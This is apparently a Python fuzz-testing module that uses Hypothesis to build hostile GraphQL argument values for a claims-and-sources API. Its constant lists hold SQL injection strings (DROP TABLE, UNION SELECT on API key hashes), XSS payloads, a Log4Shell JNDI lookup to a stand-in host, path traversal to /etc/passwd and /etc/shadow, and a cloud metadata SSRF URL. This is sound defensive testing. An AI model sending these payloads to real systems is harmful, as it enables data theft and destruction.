"""Hostile values for GraphQL arguments, as JSON variables and as inline literals.

Each strategy mostly keeps to the argument's type (so that requests get past validation
and reach resolvers, services and SQL) and sometimes breaks it (wrong JSON types, nulls,
lists where a scalar belongs) so that coercion is fuzzed too.
"""

from __future__ import annotations

import base64
import json
import math
from functools import cache
from typing import Any

from graphql import (
    GraphQLEnumType,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLList,
    GraphQLNonNull,
    GraphQLScalarType,
)
from hypothesis import strategies as st

from schema.ids import NODE_TYPES

# Rows the fuzz fixtures create, so that ids with these keys name real objects.
REAL_PKS = (1, 2, 3)

INT_EDGES = (
    0, 1, -1, 2, 3, 100, 101, 2**31 - 1, 2**31, -(2**31), -(2**31) - 1,
    2**53 + 1, 2**63 - 1, 2**63, -(2**63), 10**30, -(10**30), 10**400,
)
FLOAT_EDGES = (
    0.0, -0.0, 1.0, 0.5, 1.0000000001, -0.5, 1e308, -1e308, 5e-324, math.inf, -math.inf, math.nan,
)
SQL_FRAGMENTS = (
    "' OR '1'='1",
    "'; DROP TABLE claim; --",
    "1) UNION ALL SELECT key_hash, name FROM api_key --",
    "\\'; SELECT pg_sleep(5); --",
    "$$ || (SELECT version()) || $$",
    "%s %(name)s :param ?",
    "E'\\x00'",
    "Robert'); DELETE FROM source WHERE (1=1",
    "' AND 1=CAST((SELECT current_user) AS int) --",
    "*/ COMMIT; /*",
    "claim\" ; TRUNCATE attribution CASCADE; --",
)
SCRIPT_FRAGMENTS = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "file:///etc/shadow",
    "http://169.254.169.254/latest/meta-data/",
    "\\\\evil\\share",
    "__proto__",
    "constructor.prototype",
)
ODD_TEXT = (
    "",
    " ",
    "\t\n\r",
    "\x00",
    "a\x00b",
    "\ud800",
    "x\udfffy",
    "\udbff\udc00",
    "\ufeff\u200b\u202e\u2066",
    "\uffff\ufffe",
    "e\u0301\u0301\u0301",
    "𝕂𝕚𝕞 🚀 한국어 العربية",
    "\\u0000",
    "\x1b[31m",
    "null",
    "NaN",
    "Infinity",
    "-1",
    "1e999",
    "true",
    "KCNA",
    "Kim Jong Un wird eine Fabrik besuchen",
)
LONG_TEXT = ("x" * 501, "é" * 1_001, "y" * 2_049, "z" * 70_000, "\ud800" * 3_000)
WRONG_JSON: tuple[Any, ...] = (
    None, True, False, 0, -1, 1.5, "", "x", [], [None], [[1]], {}, {"a": 1},
)

DATE_TIMES = (
    "2023-09-14T06:00:00+00:00",
    "2023-09-14T06:00:00Z",
    "2023-09-14T06:00:00",
    "2023-09-14",
    "0001-01-01T00:00:00+00:00",
    "9999-12-31T23:59:59+14:00",
    "2023-02-30T00:00:00+00:00",
    "2023-01-01T00:00:00+25:00",
    "2023-01-01T24:00:00+00:00",
    "-0001-01-01T00:00:00+00:00",
    "99999-01-01T00:00:00+00:00",
    "1970-01-01T00:00:00.000000001+00:00",
    "2023-09-14T06:00:00+00:00\x00",
    "yesterday",
)

# Half the time, a typed input field of these names gets a value that can pass the
# domain's checks, so that accepted writes (and their revisions) happen in between the
# rejected ones, and edits meet real versions.
FIELD_HINTS: dict[str, st.SearchStrategy[Any]] = {
    "language": st.sampled_from(["de", "en", "EN-us", "ko", "de_DE", "x" * 36, "zz-ZZZZ-1"]),
    "url": st.sampled_from(["https://example.org/a", "http://example.org/b?x=1", "ftp://x",
                            "https://" + "a" * 2_050, "//no-scheme", "https://exa mple.org"]),
    "quote": st.sampled_from(["Putin hat die Einladung angenommen", "KCNA", "nicht im Text"]),
    "confidence": st.floats(0, 1) | st.sampled_from([-0.0, 1.0, 1.0000001, -1e-9]),
    "version": st.integers(0, 4),
    "statement": st.sampled_from(["Kim besucht eine Fabrik", "Putin reist nach Pjöngjang"]),
    "name": st.sampled_from(["TASS", "Kyodo", "RUSI", "Jack Watling"]),
    "title": st.sampled_from(["Ein Artikel", "Noch ein Artikel"]),
    "text": st.sampled_from(["Putin hat die Einladung angenommen, wie KCNA berichtete.",
                             "Kim werde voraussichtlich eine Fabrik besuchen, so Kyodo."]),
}

ID_OWNERS = {"claim": "Claim", "source": "Source", "document": "Document",
             "attribution": "Attribution", "affiliation": "Source", "publisher": "Source",
             "via": "Source", "keep": "Claim", "merge": "Claim"}


def _hint(kind: GraphQLInputObjectType, name: str) -> st.SearchStrategy[Any] | None:
    """A plausible value for input field `name`: ids of the type the field takes."""
    if name in FIELD_HINTS:
        return FIELD_HINTS[name]
    owner = ID_OWNERS.get(name.removesuffix("Id"))
    if name == "id":  # UpdateClaimInput.id, RetractAttributionInput.id, ...
        owner = next((t for t in sorted(NODE_TYPES) if t in kind.name), None)
    if owner is None:
        return None
    one = st.sampled_from([_b64(f"{owner}:{pk}".encode()) for pk in REAL_PKS])
    return st.lists(one, max_size=3) if name == "via" else one


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _forged_ids() -> st.SearchStrategy[str]:
    types = sorted(NODE_TYPES)
    other = ("Revision", "ApiKey", "User", "Node", "claim", "Query", "")
    pk_texts = ("0", "-1", "-9223372036854775808", "9223372036854775807",
                "9223372036854775808", "1.5", " 1", "1 ", "+1", "0x1", "\u0661", "1\x00", "", "1:2")
    return st.one_of(
        st.builds(lambda t, p: _b64(f"{t}:{p}".encode()), st.sampled_from(types + list(other)),
                  st.sampled_from(pk_texts)),
        st.builds(lambda t, p: _b64(f"{t}:{p}".encode()), st.sampled_from(other),
                  st.sampled_from(REAL_PKS)),
        st.sampled_from([
            _b64(b"Claim:1").rstrip("="), _b64(b"\xff\xfe:1"), _b64(b"Claim\x00:1"),
            _b64(b"Claim:1") + "\n", "Q2xhaW06MQ==Q2xhaW06MQ==", "!!!", "=", "====",
            "Claim:1", "1", "-1", "null", _b64(b"Claim:" + b"9" * 5_000),
        ]),
    )


def real_ids() -> st.SearchStrategy[str]:
    """Ids of rows the fixtures create, of every node type: wrong types are as hostile."""
    return st.builds(lambda t, p: _b64(f"{t}:{p}".encode()), st.sampled_from(sorted(NODE_TYPES)),
                     st.sampled_from(REAL_PKS))


def hostile_text() -> st.SearchStrategy[str]:
    fragment = st.sampled_from(SQL_FRAGMENTS + SCRIPT_FRAGMENTS + ODD_TEXT)
    # Hypothesis leaves surrogates out of text() unless asked for category Cs.
    raw = st.text(st.characters(codec=None, categories=["L", "N", "P", "S", "Z", "C"]),
                  max_size=40)
    return st.one_of(
        fragment,
        raw,
        st.builds(lambda a, b: a + b, fragment, raw),
        st.sampled_from(LONG_TEXT),
    )


@cache
def scalar_value(name: str, typed: bool) -> st.SearchStrategy[Any]:
    wrong = st.sampled_from(WRONG_JSON)
    if name == "Int":
        right: st.SearchStrategy[Any] = st.one_of(
            st.sampled_from(INT_EDGES), st.integers(-5, 200), st.integers()
        )
    elif name == "Float":
        right = st.one_of(st.sampled_from(FLOAT_EDGES), st.floats(), st.sampled_from(INT_EDGES))
    elif name == "Boolean":
        right = st.one_of(st.booleans(), st.sampled_from(["true", 1, 0]))
    elif name == "ID":
        right = st.one_of(real_ids(), real_ids(), _forged_ids(), hostile_text(),
                          st.sampled_from(INT_EDGES))
    elif name == "DateTime":
        right = st.sampled_from(DATE_TIMES[:6])
        if not typed:
            right = st.one_of(right, st.sampled_from(DATE_TIMES), hostile_text())
    else:
        right = hostile_text()
    if typed:
        if name == "Int":
            return st.integers(-5, 200) | st.sampled_from(
                [v for v in INT_EDGES if -(2**31) <= v < 2**31]
            )
        if name == "Boolean":
            return st.booleans()
        return right
    return st.one_of(right, right, right, wrong)


@cache  # building strategies costs more than drawing from them
def input_value(kind: GraphQLInputType, typed: bool, depth: int = 0) -> st.SearchStrategy[Any]:
    """A JSON-able value for `kind`, its leaves hostile; `typed` keeps it of the right
    type (so that it passes coercion and reaches the resolvers), else anything goes."""
    if isinstance(kind, GraphQLNonNull):
        inner = input_value(kind.of_type, typed, depth)
        return inner if typed else st.one_of(inner, inner, inner, inner, st.none())
    if isinstance(kind, GraphQLList):
        item = input_value(kind.of_type, typed, depth + 1)
        return st.one_of(
            st.lists(item, max_size=4),
            st.none(),
            item,  # a single value where a list belongs is legal GraphQL coercion
            st.lists(item, min_size=101, max_size=101),
        )
    if isinstance(kind, GraphQLEnumType):
        names = sorted(kind.values)
        if typed:
            return st.sampled_from(names)
        return st.one_of(
            st.sampled_from(names),
            st.sampled_from([n.lower() for n in names] + ["", "UNKNOWN", "null"]),
            st.sampled_from(WRONG_JSON),
        )
    if isinstance(kind, GraphQLInputObjectType):
        return input_object(kind, typed, depth)
    assert isinstance(kind, GraphQLScalarType)
    return scalar_value(kind.name, typed)


@cache
def input_object(
    kind: GraphQLInputObjectType, typed: bool, depth: int
) -> st.SearchStrategy[Any]:
    if depth > 3:
        return st.just({})

    @st.composite
    def build(draw: st.DrawFn) -> Any:
        value: dict[str, Any] = {}
        for name, field in kind.fields.items():
            required = isinstance(field.type, GraphQLNonNull)
            if (required and (typed or draw(st.integers(0, 9)) < 9)) or draw(st.booleans()):
                hint = _hint(kind, name) if typed else None
                if hint is not None and draw(st.booleans()):
                    value[name] = draw(hint)
                else:
                    value[name] = draw(input_value(field.type, typed, depth + 1))
        if typed:
            return value
        if draw(st.integers(0, 9)) == 9:
            value[draw(st.sampled_from(["unknown", "id", "__typename", "pk"]))] = draw(
                st.sampled_from(WRONG_JSON)
            )
        if draw(st.integers(0, 19)) == 19:
            return draw(st.sampled_from(WRONG_JSON))
        return value

    return build()


def literal(value: Any) -> str:
    """The GraphQL literal for a JSON-like value; non-finite floats become what a client
    might type for them (1e999, -1e999, NaN: a syntax the parser must refuse cleanly)."""
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return "NaN"
        if math.isinf(value):
            return "1e999" if value > 0 else "-1e999"
        return repr(value)
    if isinstance(value, str):
        return json.dumps(value)
    if isinstance(value, list):
        return "[" + ", ".join(literal(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k}: {literal(v)}" for k, v in value.items()) + "}"
    raise TypeError(type(value))


def enum_literal(value: Any, kind: GraphQLInputType) -> str:
    """Enum values are bare names in a document; elsewhere the JSON form is right."""
    named = kind.of_type if isinstance(kind, GraphQLNonNull) else kind
    if isinstance(named, GraphQLEnumType) and isinstance(value, str) and value.isidentifier():
        return value
    if isinstance(named, GraphQLInputObjectType) and isinstance(value, dict):
        parts = []
        for key, item in value.items():
            field = named.fields.get(key)
            text = enum_literal(item, field.type) if field else literal(item)
            parts.append(f"{key}: {text}")
        return "{" + ", ".join(parts) + "}"
    if isinstance(named, GraphQLList) and isinstance(value, list):
        return "[" + ", ".join(enum_literal(v, named.of_type) for v in value) + "]"
    return literal(value)
